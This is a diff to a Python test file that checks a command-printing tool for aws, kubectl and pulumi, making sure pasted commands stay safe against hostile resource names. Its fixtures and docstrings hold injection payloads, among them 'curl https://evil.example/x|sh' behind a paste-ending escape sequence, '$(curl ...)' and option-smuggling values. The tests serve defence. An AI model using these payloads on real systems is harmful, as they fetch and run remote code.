@@ -16,12 +16,16 @@ HOSTILE = (
     "`touch made`",
     "it's",
     'say "x"',
-    "a\nb",
     "a & b",
     "",
     "*",
     "# none",
+    "=ls",
+    "~",
+    "!!",
+    "日本",
 )
+UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r")
 
 # One call per command, and the words that a shell must hand over; {} stands for the value.
 CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
@@ -64,7 +68,7 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
         lambda value: commands.delete_inline_policy("r", value),
         ["aws", "iam", "delete-role-policy", "--role-name", "r", "--policy-name", "{}"],
     ),
-    "list_roles": (commands.list_roles, ["aws", "iam", "list-roles", "--query", "Roles[].Arn"]),
+    "list_roles": (lambda _: commands.list_roles(), ["aws", "iam", "list-roles", "--query", "Roles[].Arn"]),
     "wait_for_cluster": (
         lambda value: commands.wait_for_cluster(value, "eu-west-1"),
         ["aws", "eks", "wait", "cluster-active", "--name", "{}", "--region", "eu-west-1"],
@@ -80,11 +84,11 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
         ["kubectl", "annotate", "serviceaccount", "app", "-n", "team-a", "{}-"],
     ),
     "restart": (
-        lambda value: commands.restart("Deployment", value, "team-a", "blue"),
+        lambda value: commands.restart("Deployment", value, "team-a"),
         ["kubectl", "rollout", "restart", "deployment/{}", "-n", "team-a"],
     ),
     "delete_pod": (
-        lambda value: commands.delete_pod(value, "team-a", "again", "blue"),
+        lambda value: commands.delete_pod(value, "team-a"),
         ["kubectl", "delete", "pod", "{}", "-n", "team-a"],
     ),
     "explain": (
@@ -99,28 +103,68 @@ CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
 @pytest.mark.parametrize("value", HOSTILE)
 @pytest.mark.parametrize("name", CALLS)
 def test_a_value_stays_one_word(name: str, value: str) -> None:
-    """Protects who pastes a command: no value ends a word, starts another command or is expanded."""
+    """Protects who pastes a command: no value ends a word, starts another command or is expanded.
+
+    The attack: a Pod, a role or a policy named `web; curl https://evil.example/x|sh`.
+    """
     call, words = CALLS[name]
 
-    assert shlex.split(call(value), comments=True) == [word.replace("{}", value) for word in words]
+    assert shlex.split(call(value)) == [word.replace("{}", value) for word in words]
+
+
+@pytest.mark.parametrize("value", ["-EVIL", "--kubeconfig=https://evil.example"])
+@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
+def test_a_value_is_no_option(name: str, value: str) -> None:
+    """Protects who pastes a command: `kubectl delete pod -EVIL` would hand the program an option.
+
+    The attack: a Pod, a policy, an audience or a file whose name begins with a hyphen.
+    """
+    words = shlex.split(CALLS[name][0](value))
+    options = words[: words.index("--")] if "--" in words else words
+
+    assert any(value in word for word in words)
+    assert not [word for word in options if word.startswith(value)]
+
+
+@pytest.mark.parametrize("value", UNPASTABLE)
+@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
+def test_no_command_for_what_cannot_be_pasted(name: str, value: str) -> None:
+    """Protects a terminal: quotes do not hold what ends a paste, the input line, or the line on the screen.
+
+    The attack: a policy whose name ends the paste (ESC [201~), kills the line (Ctrl-C) and types a command.
+    """
+    assert CALLS[name][0](value) == ""
+
+
+def test_no_half_of_two_commands() -> None:
+    """Protects who pastes two commands: where one of them cannot be printed, neither is."""
+    assert commands.up_with_service_account("dev", "a\n", "app", False) == ""
+    assert commands.up_with_service_account("a\n", "team-a", "app", False) == ""
+
+
+def test_no_shell_finds_a_comment() -> None:
+    """Protects who pastes into an interactive zsh, which takes the words of a comment, and its apostrophe, for more.
+
+    The attack: a cluster named `$(curl https://evil.example)`, in a comment behind the command.
+    """
+    assert not [name for name, (call, _) in CALLS.items() if " #" in call("blue")]
+
+
+def test_zsh_replaces_no_word() -> None:
+    """Protects who pastes into zsh: it replaces a word such as =ls by the path of that program."""
+    assert commands.delete_inline_policy("r", "=ls") == "aws iam delete-role-policy --role-name r --policy-name '=ls'"
 
 
 @pytest.mark.parametrize("value", HOSTILE)
 def test_a_shell_runs_nothing_of_a_value(value: str) -> None:
-    """Protects who pastes two commands joined by &&, with a comment: a real shell sees the same words."""
-    text = commands.up_with_service_account(value, value, value, False, f"{value}\ntouch made; ")
-    printing = 'pulumi() { printf "<%s>" pulumi "$@"; }; kubectl() { printf "<%s>" kubectl "$@"; }\n'
-    answer = subprocess.run(["sh", "-c", printing + text], capture_output=True, text=True, check=True, timeout=20)
+    """Protects who pastes two commands joined by &&: a real shell sees the same words."""
+    text = commands.up_with_service_account(value, value, value, False)
+    shown = 'pulumi() { printf "<%s>" pulumi "$@"; }; kubectl() { printf "<%s>" kubectl "$@"; }\n'
+    answer = subprocess.run(["sh", "-c", shown + text], capture_output=True, text=True, check=True, timeout=20)
 
     made = ["kubectl", "create", "serviceaccount", value, "-n", value]
     assert answer.stdout == "".join(f"<{word}>" for word in [*made, "pulumi", "up", "--refresh", "--stack", value])
     assert answer.stderr == ""
-
-
-def test_a_comment_cannot_become_a_command() -> None:
-    """Protects who pastes a command: a line break in what a comment names would start a command of its own."""
-    for text in (commands.list_roles("b\ntouch made"), commands.remove_annotation("n", "a", "k", "c\rtouch made")):
-        assert len(text.splitlines()) == 1
 
 
 def test_a_value_is_not_taken_for_an_option() -> None:
@@ -130,6 +174,6 @@ def test_a_value_is_not_taken_for_an_option() -> None:
 
 def test_an_account_that_the_stack_makes_is_the_stacks_to_make() -> None:
     """Protects from two owners: kubectl makes an account only where the stack does not."""
-    assert commands.up_with_service_account("dev", "team-a", "app", True, "blue") == "pulumi up --refresh --stack dev"
-    text = "kubectl create serviceaccount app -n team-a && pulumi up --refresh --stack dev  # in cluster blue"
-    assert commands.up_with_service_account("dev", "team-a", "app", False, "blue") == text
+    assert commands.up_with_service_account("dev", "team-a", "app", True) == "pulumi up --refresh --stack dev"
+    text = "kubectl create serviceaccount app -n team-a && pulumi up --refresh --stack dev"
+    assert commands.up_with_service_account("dev", "team-a", "app", False) == text
